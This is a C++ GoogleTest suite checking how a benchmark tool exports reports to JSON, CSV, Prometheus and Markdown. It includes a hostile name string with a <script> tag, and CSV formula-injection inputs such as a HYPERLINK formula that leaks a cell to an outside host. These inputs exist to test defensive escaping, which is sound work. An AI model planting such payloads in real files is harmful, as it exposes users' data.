// Exported files in the hands of those who read them.
#include "reports/io/formats/format.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <limits>
#include <nlohmann/json.hpp>
#include <string>
#include <utility>
#include <vector>

#include "kernels/base/error.h"
#include "reports/io/file.h"
#include "tests/reports/sample.h"
#include "tests/support/process.h"
#include "tests/support/temporary_folder.h"

namespace parbench::report {
namespace {

using parbench::test::TemporaryFolder;
using ::testing::AllOf;
using ::testing::Contains;
using ::testing::Each;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::Pair;
using ::testing::SizeIs;

std::string exported(const std::string& name, const Report& report) {
  const auto format = std::ranges::find(formats(), name, &Format::name);
  return format == formats().end() ? "no such format" : format->write(report);
}

/// What the format's reader makes of a report; fails the test when it refuses the file.
Json read_back(const std::string& format, const Report& report) {
  const TemporaryFolder folder;
  const auto path = folder.write("exported", exported(format, report));
  const parbench::test::Finished finished =
      parbench::test::run({PARBENCH_PYTHON, "-B", PARBENCH_READERS_PY, format, path.string()});
  EXPECT_EQ(finished.exit_code, 0) << finished.err;
  return finished.exit_code == 0 ? Json::parse(finished.out) : Json();
}

/// Names with everything that some format gives a meaning to.
const std::string hostile = "a|b\\|c`d``e\"f\\n,g\n<script>*h*_i_[j](k)~l~&amp;@m";

Report hostile_report() {
  Report report = sample_report();
  CaseResult& c = report.cases[1];
  c.name = "pipeline/" + hostile;
  c.strategy = hostile;
  c.scenario = "pipeline";
  c.parameters.emplace_back(hostile, hostile);
  c.notes.clear();
  report.cases[2].parameters.emplace_back(hostile, "another");  // so that it has a column
  report.cases[7].error = hostile;
  report.machine.host = hostile;
  report.answers[0].text = hostile;
  return report;
}

/// The sample with numbers that are none, each where a case has others that are some.
Report report_without_numbers() {
  const double nan = std::nan("");
  Report report = sample_report();
  report.cases[1].statistics->median = nan;
  report.cases[2].samples[3].seconds = std::numeric_limits<double>::infinity();
  report.cases[3].speedup->value = nan;
  report.cases[4].efficiency = nan;
  report.cases[5].statistics->standard_deviation = nan;
  report.duration_seconds = nan;
  return report;
}

std::vector<std::string> column(const Json& rows, const std::string& name) {
  const auto titles = rows[0].get<std::vector<std::string>>();
  const auto title = std::ranges::find(titles, name);
  std::vector<std::string> cells;
  if (title == titles.end()) return cells;
  const auto column = static_cast<std::size_t>(title - titles.begin());
  for (std::size_t row = 1; row < rows.size(); ++row) {
    cells.push_back(rows[row][column].get<std::string>());
  }
  return cells;
}

TEST(Formats, HaveDistinctNames) {
  std::vector<std::string> names;
  for (const Format& format : formats()) names.emplace_back(format.name);
  EXPECT_THAT(names, ElementsAre("google-benchmark", "github-action-benchmark", "bencher", "csv",
                                 "csv-calls", "prometheus", "markdown"));
}

TEST(Formats, EndWithALineBreakWhateverTheReportSays) {
  for (const Format& format : formats()) {
    for (const Report& report : {sample_report(), hostile_report(), report_without_numbers()}) {
      EXPECT_THAT(exported(std::string(format.name), report), ::testing::EndsWith("\n"))
          << format.name;
    }
  }
}

// --------------------------------------------------------------------------- Google Benchmark's
// JSON

TEST(GoogleBenchmarkFormat, IsTheReportWithoutItsOwnPart) {
  const Report report = sample_report();
  const Json file = Json::parse(exported("google-benchmark", report));
  const Json whole = to_json(report);
  EXPECT_EQ(file["context"], whole["context"]);
  EXPECT_EQ(file["benchmarks"], whole["benchmarks"]);
  EXPECT_THAT(file, SizeIs(2));
}

TEST(GoogleBenchmarkFormat, LeavesOutCasesWithANumberThatIsNone) {
  const Json file = Json::parse(exported("google-benchmark", report_without_numbers()));
  std::vector<std::string> names;
  for (const Json& row : file["benchmarks"]) {
    for (const auto& [key, value] : row.items()) EXPECT_FALSE(value.is_null()) << key;
    names.push_back(row["run_name"].get<std::string>());
  }
  const Report report = sample_report();
  for (const std::size_t left_out : {1, 2, 5}) {
    EXPECT_THAT(names, Not(Contains(report.cases[left_out].name)));
  }
  EXPECT_THAT(names, Contains(report.cases[0].name));
}

TEST(GoogleBenchmarkFormat, IsReadByComparePy) {
  const TemporaryFolder folder;
  const std::string path =
      folder.write("rows.json", exported("google-benchmark", hostile_report())).string();
  const parbench::test::Finished finished = parbench::test::run(
      {PARBENCH_PYTHON, "-B", PARBENCH_COMPARE_PY, "--no-color", "benchmarks", path, path});
  EXPECT_EQ(finished.exit_code, 0) << finished.err;
  EXPECT_THAT(finished.out, HasSubstr("U Test, Repetitions: 14 vs 14"));
}

TEST(GithubActionBenchmarkFormat, HasOneMedianForEachMeasuredCase) {
  const Report report = sample_report();
  const Json results = read_back("github-action-benchmark", report);
  ASSERT_THAT(results, SizeIs(7));
  for (std::size_t i = 0; i < results.size(); ++i) {
    EXPECT_EQ(results[i]["name"], report.cases[i].name);
    EXPECT_DOUBLE_EQ(results[i]["value"], report.cases[i].statistics->median * 1e9);
    EXPECT_EQ(results[i]["unit"], "ns/iter");
  }
}

TEST(GithubActionBenchmarkFormat, HasTheOnlySampleOfACaseAsItsMedian) {
  Report report = sample_report();
  report.cases = {measured_case("branch", "chain", {}, 0.25, 1)};
  const Json results = read_back("github-action-benchmark", report);
  ASSERT_THAT(results, SizeIs(1));
  EXPECT_EQ(results[0]["name"], "branch/chain");
  EXPECT_DOUBLE_EQ(results[0]["value"], 0.25e9);
}

TEST(BencherFormat, HasOneMedianForEachMeasuredCase) {
  const Report report = sample_report();
  const Json results = read_back("bencher", report);
  ASSERT_THAT(results, SizeIs(7));
  for (std::size_t i = 0; i < results.size(); ++i) {
    EXPECT_DOUBLE_EQ(results[report.cases[i].name], report.cases[i].statistics->median * 1e9);
  }
}

TEST(BencherFormat, ReadsWhatIsLeftOfAReportWithoutNumbers) {
  EXPECT_THAT(read_back("bencher", report_without_numbers()), SizeIs(4));
  EXPECT_THAT(read_back("github-action-benchmark", report_without_numbers()), SizeIs(4));
}

TEST(GoogleBenchmarkFormats, RefuseAReportWithoutAMeasuredCase) {
  Report report = sample_report();
  report.cases.erase(report.cases.begin(), report.cases.begin() + 7);
  for (const char* name : {"google-benchmark", "github-action-benchmark", "bencher"}) {
    EXPECT_THROW((void)exported(name, report), UsageError) << name;
  }
}

// ----------------------------------------------------------------------------------------------
// CSV

TEST(CsvFormat, HasARowForEachCaseAndAColumnForEachParameter) {
  const Report report = sample_report();
  const Json rows = read_back("csv", report);
  ASSERT_THAT(rows, SizeIs(1 + report.cases.size()));
  EXPECT_THAT(rows, Each(SizeIs(rows[0].size())));
  EXPECT_EQ(column(rows, "name")[3], report.cases[3].name);
  EXPECT_THAT(column(rows, "parameters.split"),
              ElementsAre("", "", "1", "3", "5", "12", "20", "8+20+20", "40", "60"));
  EXPECT_EQ(column(rows, "hidden_parameters.slowdown")[4], "0.5");
  EXPECT_EQ(column(rows, "samples")[0], "14");
  EXPECT_EQ(std::stod(column(rows, "statistics.median")[2]), report.cases[2].statistics->median);
  EXPECT_EQ(column(rows, "speedup.baseline")[2], report.cases[0].name);
  EXPECT_EQ(column(rows, "verification.passed")[7], "false");
  EXPECT_EQ(column(rows, "memory.cpu:1")[1], std::to_string(report.cases[1].memory[1].bytes));
}

TEST(CsvFormat, SaysWhyACaseHasNoNumber) {
  const Report report = sample_report();
  const Json rows = read_back("csv", report);
  EXPECT_EQ(column(rows, "status")[7], "failed");
  EXPECT_EQ(column(rows, "error")[7], report.cases[7].error);
  EXPECT_EQ(column(rows, "statistics.median")[7], "");
  EXPECT_EQ(column(rows, "status")[8], "skipped");
}

TEST(CsvFormat, HasTheSameFixedColumnsWhateverTheCasesHave) {
  Report report = sample_report();
  report.cases = {measured_case("branch", "chain", {}, 0.25, 1)};
  const Json few = read_back("csv", report)[0];
  const Json many = read_back("csv", sample_report())[0];
  for (const Json& name : few) EXPECT_THAT(many, Contains(name));
  EXPECT_THAT(few, Contains(Json("efficiency")));
  EXPECT_THAT(few, Contains(Json("speedup.interval.low")));
  report.cases.clear();
  EXPECT_EQ(read_back("csv", report), Json::array({few}));
}

TEST(CsvFormat, HasARowForTheCallsOfEachLayerAndKernel) {
  Report report = with_profiles(sample_report());
  report.devices.clear();
  const Json rows = read_back("csv-calls", report);
  ASSERT_THAT(rows, SizeIs(2));
  EXPECT_THAT(column(rows, "case"), ElementsAre(report.cases[1].name));
  EXPECT_THAT(column(rows, "layer"), ElementsAre("layer1.0.conv1"));
  EXPECT_THAT(column(rows, "kernel"), ElementsAre("ref:any"));
  EXPECT_THAT(column(rows, "count"), ElementsAre("2"));
  EXPECT_EQ(std::stod(column(rows, "seconds")[0]), 0.3);
  EXPECT_EQ(std::stod(column(rows, "flops_per_second")[0]), 4e9 / 0.3);
  EXPECT_EQ(column(rows, "flops_of_peak")[0], "") << "no peak is known";
  EXPECT_THAT(read_back("csv-calls", sample_report()), SizeIs(1)) << "the header alone";
}

TEST(CsvFormat, HasTheSharesOfPeaksOfCalls) {
  Report report = with_profiles(sample_report());
  for (Device& device : report.devices) {
    device.peaks = {{"gemm f32", 8e9 / 0.3, "FLOP/s", {}, "2026-01-02T03:04:05Z"}};
  }
  EXPECT_DOUBLE_EQ(std::stod(column(read_back("csv-calls", report), "flops_of_peak")[0]), 0.5);
}

TEST(CsvFormat, KeepsTextAsItIs) {
  const Json rows = read_back("csv", hostile_report());
  EXPECT_EQ(column(rows, "strategy")[1], hostile);
  EXPECT_EQ(column(rows, "parameters." + hostile)[1], hostile);
  EXPECT_THAT(exported("csv", sample_report()), HasSubstr("\r\n"));
}

TEST(CsvFormat, HasAnApostropheBeforeFormulas) {
  const auto cell = [](const std::string& strategy) {
    Report report = sample_report();
    report.cases[0].strategy = strategy;
    return column(read_back("csv", report), "strategy")[0];
  };
  for (const std::string formula :
       {"=1+1", "=HYPERLINK(\"http://x/?\"&A1)", "+2+3", "-3*4", "@SUM(A1)", "\tBM_x", "\r=1", "-",
        "=", "+-3", "-inf", "-1e", "--1", "-1 000"}) {
    EXPECT_EQ(cell(formula), "'" + formula);
  }
  for (const std::string harmless :
       {"-3", "+2", "-0.5", "+1e-9", "-.5", "-1e999", "BM=x", " =1", "'=1", "3-4", ""}) {
    EXPECT_EQ(cell(harmless), harmless);
  }
  Report report = sample_report();
  report.cases[0].parameters.emplace_back("=x", std::int64_t{-3});
  EXPECT_EQ(column(read_back("csv", report), "parameters.=x")[0], "-3");
}

TEST(CsvFormat, LeavesNumbersThatAreNoneEmpty) {
  const Json rows = read_back("csv", report_without_numbers());
  EXPECT_EQ(column(rows, "statistics.median")[1], "");
  EXPECT_EQ(column(rows, "speedup.value")[3], "");
  for (const Json& row : rows) {
    for (const Json& cell : row) {
      EXPECT_NE(cell, "nan");
      EXPECT_NE(cell, "inf");
    }
  }
}

// ---------------------------------------------------------------------------------------
// Prometheus

/// The values of a metric by one of its labels.
std::vector<std::pair<std::string, double>> series(const Json& families, const std::string& name,
                                                   const std::string& label) {
  std::vector<std::pair<std::string, double>> values;
  if (!families.contains(name)) return values;
  for (const Json& sample : families[name]["samples"]) {
    values.emplace_back(sample["labels"][label].get<std::string>(), sample["value"].get<double>());
  }
  return values;
}

TEST(PrometheusFormat, HasTheFiguresOfEveryMeasuredCase) {
  const Report report = sample_report();
  const Json families = read_back("prometheus", report);
  const auto medians = series(families, "parbench_case_median_seconds", "case");
  ASSERT_THAT(medians, SizeIs(7));
  for (std::size_t i = 0; i < medians.size(); ++i) {
    EXPECT_EQ(medians[i].first, report.cases[i].name);
    EXPECT_EQ(medians[i].second, report.cases[i].statistics->median);
  }
  const auto ends = series(families, "parbench_case_median_interval_seconds", "end");
  EXPECT_EQ(ends[0],
            std::pair(std::string("low"), report.cases[0].statistics->median_interval->low));
  const auto memory = series(families, "parbench_case_memory_bytes", "device");
  EXPECT_EQ(memory[1],
            std::pair(std::string("cpu:0"), static_cast<double>(report.cases[1].memory[0].bytes)));
  EXPECT_THAT(series(families, "parbench_case_speedup_ratio", "baseline"), SizeIs(6));
  EXPECT_EQ(series(families, "parbench_case_items_per_second", "item")[0].first, "images");
}

TEST(PrometheusFormat, KeepsBandwidthsApartFromFractions) {
  Report report = sample_report();
  for (CaseResult& c : report.cases) c.metrics.clear();
  report.cases[0].metrics = {{.name = "overlap", .value = 0.75},
                             {.name = "bus bandwidth", .value = 4e9, .unit = "B"},
                             {.name = "served", .value = 30, .unit = "requests"}};
  const Json families = read_back("prometheus", report);
  EXPECT_THAT(series(families, "parbench_case_metric_ratio", "metric"),
              ElementsAre(Pair("overlap", 0.75)));
  EXPECT_THAT(series(families, "parbench_case_metric_bytes_per_second", "metric"),
              ElementsAre(Pair("bus bandwidth", 4e9)));
  EXPECT_THAT(series(families, "parbench_case_metric_per_second", "unit"),
              ElementsAre(Pair("requests", 30)));
}

TEST(PrometheusFormat, KeepsToItsConventions) {
  const Json families = read_back("prometheus", sample_report());
  EXPECT_GT(families.size(), 10U);
  for (const auto& [name, family] : families.items()) {
    EXPECT_EQ(family["type"], "gauge") << name;
    EXPECT_NE(family["help"], "") << name;
    EXPECT_THAT(name, ::testing::MatchesRegex("parbench_[a-z_]+"));
  }
}

TEST(PrometheusFormat, HasOneStateForEachCase) {
  const Report report = sample_report();
  const Json families = read_back("prometheus", report);
  int failed = 0;
  int states = 0;
  for (const auto& [state, value] : series(families, "parbench_case_status", "status")) {
    states += static_cast<int>(value);
    if (state == "failed") failed += static_cast<int>(value);
  }
  EXPECT_EQ(states, 10);
  EXPECT_EQ(failed, 1);
}

TEST(PrometheusFormat, KeepsTextAsItIs) {
  Report report = hostile_report();
  report.cases[1].parameters = {{"a-b", "1"}, {"a.b", "2"}, {"größe", "3"}};
  const Json families = read_back("prometheus", report);
  const Json& labels = families["parbench_case_info"]["samples"][1]["labels"];
  EXPECT_EQ(labels["case"], report.cases[1].name);
  EXPECT_EQ(labels["strategy"], hostile);
  EXPECT_EQ(labels["parameter_a_b"], "1");
  EXPECT_EQ(labels["parameter_a_b_"], "2");
  EXPECT_EQ(labels["parameter_gr____e"], "3");
}

TEST(PrometheusFormat, LeavesOutNumbersThatAreNone) {
  const Json families = read_back("prometheus", report_without_numbers());
  EXPECT_THAT(series(families, "parbench_case_median_seconds", "case"), SizeIs(6));
  EXPECT_FALSE(families.contains("parbench_run_duration_seconds"));
}

// -----------------------------------------------------------------------------------------
// Markdown

TEST(MarkdownFormat, IsATableThatGithubRenders) {
  const Json page = read_back("markdown", sample_report());
  ASSERT_THAT(page["tables"], SizeIs(1));
  const Json& table = page["tables"][0];
  ASSERT_THAT(table, SizeIs(11));
  EXPECT_THAT(table, Each(SizeIs(table[0].size())));
  EXPECT_EQ(column(table, "strategy")[2], "pipeline");
  EXPECT_EQ(column(table, "split")[4], "5");
  EXPECT_EQ(column(table, "split")[0], "–");
  EXPECT_EQ(column(table, "median ± 95% CI")[4], "633.7 ms ± 0.5%");
  EXPECT_EQ(column(table, "speedup over single")[0], "baseline");
  EXPECT_EQ(column(table, "speedup over single")[4], "1.71× (1.69–1.73)");
  EXPECT_EQ(column(table, "median ± 95% CI")[7], "failed");
  EXPECT_EQ(column(table, "reason")[7], sample_report().cases[7].error);
  EXPECT_EQ(page["texts"][0], "pipeline");
  const auto texts = page["texts"].get<std::vector<std::string>>();
  EXPECT_THAT(texts, Contains(HasSubstr("best split 5: 1.71×")));
  EXPECT_THAT(texts, Contains(HasSubstr("7 of 10 cases measured")));
  EXPECT_THAT(texts, Contains("Process 2 was ended by signal 11"));
}

TEST(MarkdownFormat, SaysWhatAMeasuredCaseLacks) {
  Report report = sample_report();
  report.cases[5].statistics.reset();
  EXPECT_THAT(exported("markdown", report),
              AllOf(HasSubstr("no statistics"), HasSubstr("`measured, but the report lacks")));
}

TEST(MarkdownFormat, HasTheNotesOnModels) {
  Report report = sample_report();
  report.model_notes = {{"my.onnx", "2 convolutions"}};
  EXPECT_THAT(exported("markdown", report), HasSubstr("my.onnx: 2 convolutions"));
}

TEST(MarkdownFormat, ShowsNamesAsTheyAreAndNothingElse) {
  const Json page = read_back("markdown", hostile_report());
  const Json& table = page["tables"][0];
  std::string shown = hostile;
  shown.replace(shown.find('\n'), 1, "\uFFFD");
  EXPECT_THAT(column(table, "strategy"), Contains(shown));
  EXPECT_THAT(column(table, "reason"), Contains(shown));
  EXPECT_THAT(column(table, shown), Contains(shown));
  const std::vector<std::string> tags = page["tags"];
  EXPECT_THAT(
      tags, Each(::testing::AnyOf("h3", "p", "code", "table", "thead", "tbody", "tr", "th", "td")));
  EXPECT_THAT(page["texts"].get<std::vector<std::string>>(),
              Contains(AllOf(HasSubstr("a|b\\|c`d``e"), HasSubstr("&amp;@\u2060m"))));
}

}  // namespace
}  // namespace parbench::report
